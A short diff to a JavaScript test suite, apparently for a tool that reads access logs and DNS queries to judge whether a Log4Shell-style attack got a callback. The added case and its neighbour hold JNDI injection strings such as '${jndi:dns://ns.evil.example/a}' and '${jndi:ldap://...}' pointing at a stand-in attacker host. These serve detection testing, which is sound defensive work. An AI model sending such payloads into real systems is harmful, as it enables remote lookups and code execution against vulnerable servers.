@@ -69,6 +69,7 @@ describe('what another log shows of an attack', () => {
       caught('Basic/x=', null),
       'callback-seen',
     ],
+    ['the name of a server of names', access('${jndi:dns://ns.evil.example/a}'), query('ns.evil.example'), 'likely'],
     [
       'a proxy of ours sent it',
       access('${jndi:ldap://x.evil.example/a}', '12:43:11', '10.0.0.5'),
